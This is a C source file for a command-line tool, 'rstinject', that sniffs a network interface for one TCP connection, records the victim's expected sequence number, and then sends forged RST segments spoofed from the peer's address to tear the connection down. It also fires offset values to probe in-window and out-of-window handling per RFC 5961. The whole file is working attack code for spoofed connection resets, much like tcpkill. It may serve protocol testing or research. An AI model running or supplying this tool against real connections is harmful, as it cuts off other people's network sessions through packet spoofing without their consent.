/*
 * rstinject - put a forged RST into one TCP connection, as a third party
 * on the path would (tcpkill does the same).
 *
 *   rstinject IFACE VICTIM_IP VICTIM_PORT PEER_IP PEER_PORT
 *
 * It watches IFACE for segments the victim sends to the peer and keeps
 * the acknowledgment number of the last one: that is the victim's
 * rcv_nxt, the one sequence number a RST must carry to be accepted
 * (RFC 5961).  For a connection in TIME-WAIT the last such segment is the
 * victim's final ACK.  Then, for each line "fire OFFSET" on stdin, it
 * sends a RST from the peer's address to the victim with sequence number
 * rcv_nxt + OFFSET, and prints what it sent.  OFFSET 0 hits exactly;
 * a small offset lands in the window (a challenge ACK answers it); a
 * huge one falls outside (it is ignored).
 *
 * IPv4 only; needs CAP_NET_RAW.  Prints "watching" once it captures.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

struct endpoint {
	struct in_addr addr;
	uint16_t port;		/* network order */
};

static uint16_t checksum(const void *data, size_t len, uint32_t sum)
{
	const uint8_t *p = data;

	for (; len > 1; p += 2, len -= 2)
		sum += (uint32_t)(p[0] << 8 | p[1]);
	if (len)
		sum += (uint32_t)(p[0] << 8);
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return htons((uint16_t)~sum);
}

/* A segment from victim to peer: its acknowledgment number, or -1. */
static int64_t victim_ack(const uint8_t *pkt, size_t len,
			  const struct endpoint *victim,
			  const struct endpoint *peer)
{
	const struct iphdr *ip = (const void *)pkt;
	const struct tcphdr *tcp;

	if (len < sizeof(*ip) || ip->version != 4 || ip->protocol != IPPROTO_TCP)
		return -1;
	if (len < ip->ihl * 4u + sizeof(*tcp))
		return -1;
	tcp = (const void *)(pkt + ip->ihl * 4);
	if (ip->saddr != victim->addr.s_addr || ip->daddr != peer->addr.s_addr ||
	    tcp->source != victim->port || tcp->dest != peer->port || !tcp->ack)
		return -1;
	return ntohl(tcp->ack_seq);
}

static int send_rst(int raw, const struct endpoint *victim,
		    const struct endpoint *peer, uint32_t seq)
{
	struct {
		struct iphdr ip;
		struct tcphdr tcp;
	} pkt;
	struct {
		uint32_t src, dst;
		uint8_t zero, proto;
		uint16_t len;
		struct tcphdr tcp;
	} pseudo;
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_addr = victim->addr };

	memset(&pkt, 0, sizeof(pkt));
	pkt.ip.version = 4;
	pkt.ip.ihl = 5;
	pkt.ip.ttl = 64;
	pkt.ip.protocol = IPPROTO_TCP;
	pkt.ip.tot_len = htons(sizeof(pkt));
	pkt.ip.saddr = peer->addr.s_addr;
	pkt.ip.daddr = victim->addr.s_addr;
	pkt.ip.check = checksum(&pkt.ip, sizeof(pkt.ip), 0);
	pkt.tcp.source = peer->port;
	pkt.tcp.dest = victim->port;
	pkt.tcp.seq = htonl(seq);
	pkt.tcp.doff = 5;
	pkt.tcp.rst = 1;
	memset(&pseudo, 0, sizeof(pseudo));
	pseudo.src = pkt.ip.saddr;
	pseudo.dst = pkt.ip.daddr;
	pseudo.proto = IPPROTO_TCP;
	pseudo.len = htons(sizeof(pkt.tcp));
	pseudo.tcp = pkt.tcp;
	pkt.tcp.check = checksum(&pseudo, sizeof(pseudo), 0);
	return sendto(raw, &pkt, sizeof(pkt), 0, (struct sockaddr *)&to,
		      sizeof(to)) == (ssize_t)sizeof(pkt)
		       ? 0
		       : -1;
}

static int endpoint(const char *ip, const char *port, struct endpoint *e)
{
	e->port = htons((uint16_t)atoi(port));
	return inet_pton(AF_INET, ip, &e->addr) == 1 ? 0 : -1;
}

int main(int argc, char **argv)
{
	struct endpoint victim, peer;
	struct sockaddr_ll ll = { .sll_family = AF_PACKET,
				  .sll_protocol = htons(ETH_P_IP) };
	int64_t rcv_nxt = -1;
	int cap, raw;

	if (argc != 6 || endpoint(argv[2], argv[3], &victim) ||
	    endpoint(argv[4], argv[5], &peer)) {
		fputs("usage: rstinject IFACE VICTIM_IP VICTIM_PORT PEER_IP "
		      "PEER_PORT\n", stderr);
		return 2;
	}
	ll.sll_ifindex = (int)if_nametoindex(argv[1]);
	cap = socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_IP));
	raw = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (ll.sll_ifindex == 0 || cap < 0 || raw < 0 ||
	    bind(cap, (struct sockaddr *)&ll, sizeof(ll)) != 0) {
		fprintf(stderr, "rstinject: cannot capture on %s: %s\n",
			argv[1], strerror(errno));
		return 1;
	}
	setvbuf(stdout, NULL, _IOLBF, 0);
	printf("watching %s for %s:%s -> %s:%s\n", argv[1], argv[2], argv[3],
	       argv[4], argv[5]);
	for (;;) {
		struct pollfd p[2] = { { .fd = cap, .events = POLLIN },
				       { .fd = 0, .events = POLLIN } };
		uint8_t pkt[65536];
		struct sockaddr_ll from;
		socklen_t flen = sizeof(from);
		char line[64];
		long offset;

		if (poll(p, 2, -1) < 0)
			continue;
		if (p[0].revents & POLLIN) {
			ssize_t n = recvfrom(cap, pkt, sizeof(pkt), 0,
					     (struct sockaddr *)&from, &flen);
			int64_t ack;

			/* Loopback shows each packet twice: keep one. */
			if (n > 0 && from.sll_pkttype != PACKET_OUTGOING &&
			    (ack = victim_ack(pkt, (size_t)n, &victim, &peer)) >= 0)
				rcv_nxt = ack;
		}
		if (!(p[1].revents & (POLLIN | POLLHUP)))
			continue;
		if (fgets(line, sizeof(line), stdin) == NULL)
			return 0;
		if (sscanf(line, "fire %ld", &offset) != 1)
			continue;
		if (rcv_nxt < 0) {
			printf("no segment seen from the victim yet\n");
			continue;
		}
		if (send_rst(raw, &victim, &peer,
			     (uint32_t)(rcv_nxt + offset)) != 0) {
			printf("send failed: %s\n", strerror(errno));
			continue;
		}
		printf("sent RST seq=%u (victim's rcv_nxt %lld %c %ld)\n",
		       (uint32_t)(rcv_nxt + offset), (long long)rcv_nxt,
		       offset < 0 ? '-' : '+', labs(offset));
	}
}
